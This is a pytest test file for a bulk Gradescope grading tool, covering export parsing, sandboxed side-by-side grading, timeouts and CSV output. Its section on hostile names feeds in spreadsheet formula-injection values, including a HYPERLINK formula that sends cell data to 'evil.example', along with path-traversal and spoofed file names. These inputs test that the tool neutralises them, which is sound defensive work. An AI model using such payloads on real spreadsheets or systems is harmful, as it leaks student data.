"""`python build.py grade` at course scale: Gradescope's export (a folder or its zip, with
submission_metadata.yml) or a flat folder, graded side by side (build.side_by_side: a grading user and
a CPU per worker), each submission's results kept, and a CSV a course can import.

The fast tests read layouts, metadata, results and bad input without grading. The two grading tests
use the committed autograder zip: a Gradescope export of four submissions with -j 2 (257 s on this
otherwise idle 2-core machine, 352 s with other jobs on it: one submission spins until the 240 s
CPU-time limit of a cell), and a run past its timeout (61 s).
"""

import csv
import fcntl
import json
import os
import pwd
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

import nbformat
import pytest

import build
import submissions as S
from cgcnn_grading import sandbox, scoring
from cgcnn_grading.grade import SCRATCH_PREFIX
from conftest import ROOT

POINTS = build.autograder_points(build.AUTOGRADER_ZIP)
SOLUTION = S.Case("solution", "determinism", "", None, S.full())  # the catalogue's short recipe
OWN_USER = 21  # a grading user no other grading of the suite reaches (each takes the first free one)
COLUMNS = ["submission", "name", "email", "sid", *POINTS, "total", "possible", "test_mae", "status", "reason",
           "results"]
root_only = pytest.mark.skipif(os.geteuid() != 0, reason="grading switches to the grading users: needs root")

# Gradescope's submission_metadata.yml as its export writes it: Ruby-symbol keys, the student id as a
# quoted string (leading zeros), group submissions listing every submitter, older submissions in :history:.
METADATA = """\
---
submission_1001:
  :submitters:
  - :name: Ada Lovelace
    :sid: '00123'
    :email: ada@example.edu
  :created_at: 2026-11-30 22:45:14.344165000 Z
  :score: 0.0
  :status: processed
  :results:
    score: 0.0
    tests: []
  :history: []
submission_1002:
  :submitters:
  - :name: Grace Hopper
    :sid: '00456'
    :email: grace@example.edu
  - :name: Alan Turing
    :sid: '00789'
    :email: alan@example.edu
  :created_at: 2026-12-01 05:25:21.716840000 Z
  :score: 21.0
  :status: processed
  :history:
  - :submitters: []
    :created_at: 2026-11-30 02:07:23.037492000 Z
    :score: 0.0
    :id: 1000
submission_1003:
  :submitters:
  - :name: Edsger Dijkstra
    :sid: '01000'
    :email: edsger@example.edu
  :created_at: 2026-12-02 02:24:38.858169000 Z
  :score: 0.0
  :status: processed
  :history: []
submission_1004:
  :submitters:
  - :name: Barbara Liskov
    :sid: '01001'
    :email: barbara@example.edu
  :created_at: 2026-12-02 03:54:53.628168000 Z
  :score: 0.0
  :status: processed
  :history: []
submission_1005:
  :submitters:
  - :name: Donald Knuth
    :sid: '01002'
    :email: don@example.edu
  :created_at: 2026-12-02 05:30:50.288394000 Z
  :score: !ruby/object:BigDecimal 18:0.0
  :status: processed
  :history: []
"""
WHO = {"submission_1001": ("Ada Lovelace", "ada@example.edu", "00123"),
       "submission_1002": ("Grace Hopper; Alan Turing", "grace@example.edu; alan@example.edu", "00456; 00789"),
       "submission_1003": ("Edsger Dijkstra", "edsger@example.edu", "01000"),
       "submission_1004": ("Barbara Liskov", "barbara@example.edu", "01001"),
       "submission_1005": ("Donald Knuth", "don@example.edu", "01002")}


def case(name: str) -> S.Case:
    return next(c for c in S.CASES if c.name == name)


def student_notebook() -> nbformat.NotebookNode:
    return nbformat.read(S.STUDENT, as_version=4)


EXPORTED_ZIP = f"{build.NAME}_2026_12_07T10_15_00_000000.zip"  # the export cell's zip, as a student uploads it


def export_folder(root: Path, notebooks: dict[str, nbformat.NotebookNode | None], zipped: tuple[str, ...] = ()) -> Path:
    """Gradescope's export in `root`: METADATA and a folder per submission holding what the student
    uploaded: the notebook, or for the keys in `zipped` the export cell's zip holding it (the export
    keeps an uploaded zip as it was); None: a folder without a notebook. submission_1005 is listed but
    has no folder."""
    root.mkdir(parents=True)
    (root / build.METADATA).write_text(METADATA)
    for key, nb in notebooks.items():
        (root / key).mkdir()
        if nb is None:
            (root / key / "answers.txt").write_text("I wrote my answers in the notebook.\n")
        elif key in zipped:
            with zipfile.ZipFile(root / key / EXPORTED_ZIP, "w") as z:
                z.writestr(build.NB_NAME, nbformat.writes(nb))
        else:
            nbformat.write(nb, root / key / build.NB_NAME)
    return root


def read_csv(path: Path) -> tuple[list[str], dict[str, dict]]:
    with open(path, newline="") as f:
        reader = csv.DictReader(f)
        rows = {r["submission"]: r for r in reader}
        return reader.fieldnames, rows


# Layouts and metadata (no grading) ----------------------------------------------------------------

def test_the_export_folder_and_its_zip_give_the_same_submissions_and_submitters(tmp_path):
    export = export_folder(tmp_path / "assignment_42_export", {k: None for k in
                                                               ("submission_1001", "submission_1002", "submission_1003")})
    (export / "submission_1099").mkdir()  # a folder the metadata does not list: graded, nameless
    zipped = tmp_path / "export.zip"
    with zipfile.ZipFile(zipped, "w") as z:  # Gradescope's zip holds the export's own folder
        for path in sorted(export.rglob("*")):
            z.write(path, path.relative_to(tmp_path))
    for source in (export, zipped):
        unpack = tmp_path / f"unpack-{source.suffix or 'folder'}"
        unpack.mkdir()
        subs, holder = build.find_submissions(source, unpack)
        assert holder == (export if source == export else unpack)
        assert [s.key for s in subs] == [*WHO, "submission_1099"]
        for sub in subs[:5]:
            assert (sub.name, sub.email, sub.sid) == WHO[sub.key], sub
        assert [s.key for s in subs if s.problem] == ["submission_1004", "submission_1005"]
        assert "has no folder submission_1005/" in subs[4].problem and subs[4].path is None
        assert subs[0].path.is_dir() and subs[0].path.name == "submission_1001"
        assert (subs[5].name, subs[5].problem) == ("", "")


def test_a_flat_folder_names_each_student_by_the_file(tmp_path):
    for name in ("alice.ipynb", "bob.zip", "bob.ipynb", "notes.txt"):
        (tmp_path / name).write_text("{}")
    subs, holder = build.find_submissions(tmp_path, tmp_path / "unused")
    assert holder == tmp_path
    assert [(s.key, s.name, s.folder) for s in subs] == [
        ("alice.ipynb", "alice", "alice"), ("bob.ipynb", "bob", "bob.ipynb"), ("bob.zip", "bob", "bob.zip")]
    assert all(s.email == s.sid == s.problem == "" for s in subs)


@pytest.mark.parametrize("make, message", [
    (lambda p: p / "missing", r"missing not found: give the folder \(or zip\) of Gradescope's Export"),
    (lambda p: p, r"no submissions in .*: expected Gradescope's export \(submission_metadata\.yml"),
    (lambda p: (p / "notes.txt").write_text("x") and p / "notes.txt", r"notes\.txt is a file: give a folder"),
    (lambda p: (p / "export.zip").write_text("not a zip") and p / "export.zip", r"export\.zip is not a readable zip"),
    (lambda p: (p / build.METADATA).write_text("submission_1:\n  :submitters: [\n") and p,
     r"submission_metadata\.yml could not be read \(.*Error: .*line \d+.*download the export from Gradescope again"),
    (lambda p: (p / build.METADATA).write_text("---\n") and p, r"lists no submissions"),
    (lambda p: (p / build.METADATA).write_text("- submission_1\n") and p, r"lists no submissions"),
])
def test_bad_input_is_named(tmp_path, make, message):
    source = make(tmp_path)
    with pytest.raises(build.BuildError, match=message):
        build.find_submissions(source, tmp_path / "unpack")


def test_a_submission_folder_holding_only_the_uploaded_zip_is_graded_from_that_zip(tmp_path):
    """Gradescope's export keeps an uploaded zip as it was: grading unpacks the folder's one zip when the
    folder holds no notebook (and only then: a notebook beside it, two zips, or a link are left as they are)."""
    one = export_folder(tmp_path / "one", {"submission_1001": student_notebook()}, zipped=("submission_1001",))
    assert build._uploaded_zip(one / "submission_1001") == one / "submission_1001" / EXPORTED_ZIP
    folder = one / "submission_1001"
    nbformat.write(student_notebook(), folder / build.NB_NAME)
    assert build._uploaded_zip(folder) is None  # the notebook is graded
    (folder / build.NB_NAME).unlink()
    shutil.copy(folder / EXPORTED_ZIP, folder / "again.zip")
    assert build._uploaded_zip(folder) is None  # two zips: which one? the grader says what it holds
    (folder / "again.zip").unlink()
    (folder / EXPORTED_ZIP).rename(tmp_path / "elsewhere.zip")
    (folder / EXPORTED_ZIP).symlink_to(tmp_path / "elsewhere.zip")
    assert build._uploaded_zip(folder) is None  # a link is never followed


def test_a_zip_that_is_not_an_export_is_refused(tmp_path):
    with zipfile.ZipFile(tmp_path / "alice.zip", "w") as z:
        z.writestr(build.NB_NAME, "{}")
    (tmp_path / "unpack").mkdir()
    with pytest.raises(build.BuildError, match=r"alice\.zip holds no submission_metadata\.yml.*put it in a folder"):
        build.find_submissions(tmp_path / "alice.zip", tmp_path / "unpack")


# Reading results.json (no grading) ----------------------------------------------------------------

def test_an_ungradable_upload_is_an_error_with_the_graders_message():
    results = scoring.error_results("no notebook (.ipynb) in it; it holds answers.txt", "Export it again.")
    row = build.outcome(results, list(POINTS))
    assert row == {"total": 0.0, "status": "error",
                   "reason": "This submission could not be graded: no notebook (.ipynb) in it; it holds answers.txt."}


def test_the_graders_own_failure_reaches_the_staffs_csv_not_the_students_entry():
    from cgcnn_grading import grade
    results = scoring.error_results(grade.RUN_FAILED, "Export it again.", "FileNotFoundError: /autograder/source/x")
    row = build.outcome(results, list(POINTS))
    assert row["status"] == "error" and row["reason"] == (f"This submission could not be graded: {grade.RUN_FAILED}. "
                                                          "[grader: FileNotFoundError: /autograder/source/x]")
    assert "FileNotFoundError" not in results["tests"][0]["output"]


def test_a_stopped_cell_is_a_time_limit_and_the_parts_are_read_from_their_scored_entries():
    stop = "the cell starting 'while True:' was stopped after 240 s of CPU time (time limit)"
    tests = []
    for part, points in POINTS.items():  # the visible public-checks entry carries no score
        tests += [{"name": f"{part} (public checks)", "visibility": "visible", "output": "..."},
                  {"name": part, "score": points if part != "q1b" else 0.0, "max_score": points}]
    results = {"tests": tests, "output": f"Time limit: {stop}.", "extra_data": {"test_mae": 0.06441, "stopped": [stop]}}
    row = build.outcome(results, list(POINTS))
    assert row["status"] == "time limit" and row["reason"] == stop
    assert row["q1b"] == 0 and row["q1a"] == POINTS["q1a"]
    assert row["total"] == pytest.approx(sum(POINTS.values()) - POINTS["q1b"], abs=1e-9)
    assert row["test_mae"] == pytest.approx(0.06441, abs=1e-12)
    results["extra_data"]["stopped"] = []
    assert build.outcome(results, list(POINTS))["status"] == "graded"
    del results["extra_data"]["stopped"]  # an autograder zip built before extra_data["stopped"]
    assert build.outcome(results, list(POINTS))["reason"] == stop


# Side by side (no grading) ------------------------------------------------------------------------

def test_side_by_side_gives_each_running_item_its_own_user_and_cpu_in_order():
    lock, running, seen = threading.Lock(), set(), []

    def work(item, user, prefix):
        with lock:
            assert user not in running, f"{user} graded two at a time"
            running.add(user)
            seen.append((user, prefix))
        time.sleep(0.02)  # long enough for the other workers to start theirs
        with lock:
            running.remove(user)
        return item * 10

    assert build.side_by_side(list(range(12)), work, 3) == [k * 10 for k in range(12)]
    assert {u for u, _ in seen} == {"cgcnn-student-1", "cgcnn-student-2", "cgcnn-student-3"}
    cpus = build.cpus()
    for user, prefix in seen:
        k = int(user.rsplit("-", 1)[1]) - 1
        assert prefix == ["taskset", "-c", str(cpus[k % len(cpus)])]
    seen.clear()
    build.side_by_side([1, 2], work, 2, pin=False)
    assert all(prefix == [] for _, prefix in seen)


def test_the_cli_names_wrong_arguments():
    for args, message in ((["x", "a.csv", "-o", "b.csv"], "give the CSV once"), (["x", "-j", "0"], "-j must be at least 1")):
        done = subprocess.run([sys.executable, "build.py", "grade", *args], cwd=ROOT, capture_output=True, text=True)
        assert done.returncode == 2 and message in done.stderr, done.stderr


@root_only
def test_a_previous_runs_results_are_never_overwritten(tmp_path):
    (tmp_path / "scores-results" / "submission_1").mkdir(parents=True)
    (tmp_path / "alice.ipynb").write_text("{}")
    with pytest.raises(build.BuildError, match=r"scores-results already exists .*--results"):
        build.grade_folder(tmp_path, tmp_path / "scores.csv")
    assert not (tmp_path / "scores.csv").exists()


# Grading --------------------------------------------------------------------------------------------

@root_only
@pytest.mark.grading
def test_bulk_grading_of_a_gradescope_export_side_by_side(tmp_path):
    """Four submissions with -j 2 through the real CLI, each with the catalogue's short recipe: the
    solution (23/30: all but 4b, and its test MAE), a notebook whose part 1a raises (21/30), uploaded as
    the export cell's zip (issue 28: it was not unpacked, "no notebook ... it holds ....zip"), the student
    notebook with a cell that loops until its time limit stops it (time limit, 0/30), a folder without a
    notebook (error, with the grader's reason); and a fifth, listed in the metadata without a folder
    (error). The autograder states the catalogue's short limits (S.LIMITS): the loop is stopped in
    seconds (the default limits: test_sandbox.py, test_gradescope.py)."""
    loops = S.notebook(case("endless_loop"), base=student_notebook())
    export = export_folder(tmp_path / "export", {
        "submission_1001": S.notebook(SOLUTION), "submission_1002": S.notebook(case("part1_raises")),
        "submission_1003": loops, "submission_1004": None}, zipped=("submission_1002",))
    out = tmp_path / "marks" / "scores.csv"
    autograder = S.with_limits(build.AUTOGRADER_ZIP, tmp_path / "autograder.zip")
    done = subprocess.run([sys.executable, "build.py", "grade", str(export), "-o", str(out), "-j", "2",
                           "--autograder", str(autograder)], cwd=ROOT, capture_output=True, text=True, timeout=1800)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert re.search(r"grading 5 submissions, 2 at a time", done.stdout), done.stdout
    assert re.search(r"wrote .*scores\.csv: 5 submissions \(2 graded, 1 time limit, 2 error\); \d+ submissions per hour",
                     done.stdout), done.stdout
    header, rows = read_csv(out)
    assert header == COLUMNS and list(rows) == list(WHO)
    assert oct(out.stat().st_mode & 0o777) == "0o600" and not list(out.parent.glob(".*.tmp"))
    for key, row in rows.items():
        assert (row["name"], row["email"], row["sid"]) == WHO[key]
        assert float(row["possible"]) == sum(POINTS.values()) == 30
        scored = [float(row[p]) for p in POINTS if row[p] != ""]
        assert float(row["total"]) == pytest.approx(sum(scored), abs=1e-9), row

    solution, wrong, stopped, empty, missing = rows.values()
    assert (solution["status"], solution["reason"], float(solution["total"])) == ("graded", "", 23)
    assert {p: float(solution[p]) for p in POINTS} == SOLUTION.expected
    graded_alone = S.MEASURED_MAE["solution_run_1"]  # the catalogue's record of this notebook
    assert S.same_mae(float(solution["test_mae"]), graded_alone), solution
    assert wrong["status"] == "graded" and wrong["test_mae"] == ""
    assert {p: float(wrong[p]) for p in POINTS} == case("part1_raises").expected and float(wrong["total"]) == 21
    assert stopped["status"] == "time limit", stopped
    assert re.fullmatch(r"the cell starting 'while True:' was stopped after \d+ s.*\(time limit\)", stopped["reason"])
    assert {p: float(stopped[p]) for p in POINTS} == S.zero()
    assert (empty["status"], float(empty["total"])) == ("error", 0)
    assert re.search(r"could not be graded: no notebook \(\.ipynb\) in it; it holds answers\.txt", empty["reason"])
    assert all(empty[p] == "" for p in POINTS)
    assert missing["status"] == "error" and "has no folder submission_1005/" in missing["reason"]
    assert missing["results"] == ""

    # the gradebook, as an import reads it: one row per student (the group's marks on each member's row),
    # an error no score; and the course report
    book_path, report_path = build.staff_files(out)
    with open(book_path, newline="") as f:
        book = {r["email"]: r for r in csv.DictReader(f)}
    assert list(book) == [email for who in WHO.values() for email in who[1].split("; ")]
    assert book["grace@example.edu"]["score"] == book["alan@example.edu"]["score"] == "21"
    assert (book["alan@example.edu"]["name"], book["alan@example.edu"]["sid"]) == ("Alan Turing", "00789")
    assert [(book[e]["score"], book[e]["status"]) for e in ("barbara@example.edu", "don@example.edu")] == [("", "error")] * 2
    assert book["edsger@example.edu"]["score"] == "0" and book["edsger@example.edu"]["status"] == "time limit"
    page = report_path.read_text()
    assert "Course report: 5 submissions" in page and "2 graded, 1 time limit, 2 error" in page
    # q1a's public test: passed by the solution, failed by part1_raises and by the unwritten stub, each its own way
    assert re.search(r"<td>q1a</td><td>test_srtio3</td><td>1 \(33 %\)</td><td>2</td><td>0</td>", page), page[:3000]
    assert "1 &times; <code>your code raised RuntimeError: atom_features is broken</code>" in page
    assert all(oct(p.stat().st_mode & 0o777) == "0o600" for p in (book_path, report_path))

    results_root = out.parent / "scores-results"
    assert oct(results_root.stat().st_mode & 0o777) == "0o700"
    for key in ("submission_1001", "submission_1002", "submission_1003", "submission_1004"):
        kept = out.parent / rows[key]["results"]
        assert kept == results_root / key / "results.json", rows[key]["results"]
        assert (results_root / key / "grader.log").is_file()
        results = json.loads(kept.read_text())
        assert {p: float(rows[key][p]) for p in POINTS if rows[key][p] != ""} == \
            {p: float(s) for p, s in build.scores(results).items() if p in POINTS}
    stops = json.loads((results_root / "submission_1003" / "results.json").read_text())["extra_data"].get("stopped")
    if stops is not None:  # an autograder zip built with extra_data["stopped"]: the reason is that field
        assert stopped["reason"] == "; ".join(stops)

    again = subprocess.run([sys.executable, "build.py", "grade", str(export), "-o", str(out)],
                           cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert again.returncode == 1 and "already exists" in again.stderr, again.stderr
    assert read_csv(out)[1] == rows


@root_only
@pytest.mark.grading
def test_a_run_past_its_timeout_is_an_error_row_and_leaves_no_process(tmp_path):
    """A grading still running at the run's timeout is ended, every process of its grading user with
    it, and its scratch folder (a copy of the student's files, in that user's work directory) removed;
    its row says so, and what the entry point printed is kept."""
    sleeper = S.Case("sleeps", "malformed", "", S.insert(S.IMPORTS, "import time\ntime.sleep(3600)"), S.zero())
    run_limit = 30  # s: the kernel has started and is sleeping well before (its start-up: about 8 s)
    folder = tmp_path / "submissions"
    folder.mkdir()
    nbformat.write(S.notebook(sleeper, base=student_notebook()), folder / "sleeper.ipynb")
    # a grading user of its own (the suite's other gradings take the first free ones), whose processes are counted
    rows = build.grade_folder(folder, tmp_path / "scores.csv", jobs=1, timeout=run_limit, first_user=OWN_USER)
    assert [(r["submission"], r["status"]) for r in rows] == [("sleeper.ipynb", "error")]
    assert f"grading took longer than {run_limit} s" in rows[0]["reason"]
    assert rows[0]["results"] == "scores-results/sleeper"
    assert f"ended after {run_limit} s" in (tmp_path / "scores-results" / "sleeper" / "grader.log").read_text()
    uid = pwd.getpwnam(f"cgcnn-student-{OWN_USER}").pw_uid
    assert sandbox.processes(uid) == []
    assert not [p for p in Path(tempfile.gettempdir()).glob(f"{SCRATCH_PREFIX}*")
                if (p / "work").is_dir() and (p / "work").stat().st_uid == uid]


# Two graders on one machine (issue 29) ----------------------------------------------------------------

def _hold(name: str):
    """The lock of grading user `name`, taken as another grader on this machine (another course's
    `build.py grade`, another TA's) would hold it while it grades; after the grading that holds it now,
    if any (the suite's other worker)."""
    lock = open(sandbox.lock_path(name), "w")
    fcntl.flock(lock, fcntl.LOCK_EX)
    return lock


@root_only
def test_a_grader_claims_a_user_no_other_grading_holds_and_its_run_takes_that_lock_without_waiting():
    held = _hold("cgcnn-student-1")
    try:
        with sandbox.claimed_user("cgcnn-student-1") as (name, lock):
            assert name != "cgcnn-student-1", "the user another grading holds was given again"
            with sandbox.grading_user(name, held=lock) as user:  # as the run does: no wait, same lock
                assert user.pw_name == name
            with sandbox.claimed_user(name) as (other, _):
                assert other not in (name, "cgcnn-student-1"), "a claimed user was given twice"
                with pytest.raises(sandbox.SandboxError, match=f"is not the lock of {other}"):
                    with sandbox.grading_user(other, held=lock):
                        pass
    finally:
        held.close()


@root_only
@pytest.mark.grading
def test_a_submission_never_waits_for_a_user_that_another_grader_holds(tmp_path):
    """With cgcnn-student-1 and -2 busy for as long as the run may take (two gradings of another
    course on this machine), the untouched student notebook grades within a 120 s run limit: the
    grader takes a free user before the run's clock starts (it once waited for -1 and scored 0 as
    "grading took longer than 600 s")."""
    folder = tmp_path / "submissions"
    folder.mkdir()
    nbformat.write(student_notebook(), folder / "untouched.ipynb")
    held = [_hold("cgcnn-student-1"), _hold("cgcnn-student-2")]
    try:
        rows = build.grade_folder(folder, tmp_path / "scores.csv", jobs=1, timeout=120)
    finally:
        for lock in held:
            lock.close()
    assert [(r["submission"], r["status"], float(r["total"])) for r in rows] == [("untouched.ipynb", "graded", 0.0)], rows


# Hostile names and file names (issue 24) ------------------------------------------------------------

def test_text_cells_never_start_a_formula_and_numbers_stay_numbers():
    cases = {'=HYPERLINK("http://x.example/?"&C2,"x")': '\'=HYPERLINK("http://x.example/?"&C2,"x")',
             "@SUM(1+1)": "'@SUM(1+1)", "+1": "'+1", "-2+3": "'-2+3", "\tcmd": "'\tcmd", "\rcmd": "'\rcmd",
             "Ada Lovelace": "Ada Lovelace", "a=b": "a=b", "00123": "00123",
             "red\x1b[31mtext\u202egnp.exe": "red?[31mtext?gnp.exe", 3.5: "3.5"}
    assert {k: build.spreadsheet_text(k) for k in cases} == cases


@pytest.mark.parametrize("name, folder", [("...ipynb", "ipynb"), ("..", "submission"), (".hidden", "hidden"),
                                          ("../../etc/x", "_.._etc_x"), ("a/b\\c\x00d\ne", "a_b_c_d_e"),
                                          ("submission_1001", "submission_1001"), ("bob.ipynb", "bob.ipynb")])
def test_a_results_folder_is_one_plain_name_inside_the_results_root(tmp_path, name, folder):
    taken = set()
    assert build.results_folder(name, taken) == folder
    assert build.results_folder(name, taken) == f"{folder}-2", "two uploads, two folders"
    assert (tmp_path / folder).resolve().parent == tmp_path.resolve()


@root_only
def test_hostile_names_reach_the_csv_as_text(tmp_path):
    """Names, emails and ids from Gradescope's metadata as a student typed them: no cell is a formula
    (nothing is graded: neither submission has a folder)."""
    export = tmp_path / "export"
    export.mkdir()
    (export / build.METADATA).write_text(
        "submission_1:\n  :submitters:\n  - :name: '=HYPERLINK(\"http://evil.example/?\"&C2,\"Ada\")'\n"
        "    :sid: '-1+2'\n    :email: '@SUM(1+1)'\n"
        "submission_2:\n  :submitters:\n  - :name: \"\\tTab\"\n    :sid: '00123'\n    :email: \"\\rcr@example.edu\"\n")
    out = tmp_path / "scores.csv"
    build.grade_folder(export, out, jobs=1)
    _, rows = read_csv(out)
    assert (rows["submission_1"]["name"], rows["submission_1"]["sid"], rows["submission_1"]["email"]) == \
        ('\'=HYPERLINK("http://evil.example/?"&C2,"Ada")', "'-1+2", "'@SUM(1+1)")
    assert (rows["submission_2"]["name"], rows["submission_2"]["sid"], rows["submission_2"]["email"]) == \
        ("'\tTab", "00123", "'\rcr@example.edu")
    assert rows["submission_1"]["total"] == "0" and rows["submission_1"]["status"] == "error"
    for row in rows.values():
        assert not [v for k, v in row.items() if v and v[0] in "=+-@\t\r"], row


@root_only
def test_an_upload_named_dot_dot_ipynb_writes_its_results_inside_the_results_folder(tmp_path):
    """An upload named `...ipynb` (stem '..') wrote grader.log and results.json beside the results
    folder; a name that is a formula became a formula in the CSV. Both are graded (as unreadable
    notebooks: nothing runs) into folders of their own inside the results folder."""
    uploads = tmp_path / "uploads"
    uploads.mkdir()
    for name in ("...ipynb", "=1+2.ipynb"):
        (uploads / name).write_text("{}")
    out = tmp_path / "marks" / "scores.csv"
    rows = build.grade_folder(uploads, out, jobs=1)
    assert [(r["submission"], r["status"]) for r in rows] == [("...ipynb", "error"), ("'=1+2.ipynb", "error")]
    results_root = out.parent / "scores-results"
    assert sorted(p.name for p in results_root.iterdir()) == ["_1_2", "submission"]
    for row, folder in zip(rows, ("submission", "_1_2")):
        assert row["results"] == f"scores-results/{folder}/results.json"
        assert oct((results_root / folder / "grader.log").stat().st_mode & 0o777) == "0o600"
        assert "could not be read" in json.loads((results_root / folder / "results.json").read_text())["output"]
    outside = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if results_root not in p.parents
                     and p != results_root)
    assert outside == ["marks", "marks/scores-report.html", "marks/scores-students.csv", "marks/scores.csv", "uploads",
                       "uploads/...ipynb", "uploads/=1+2.ipynb"]
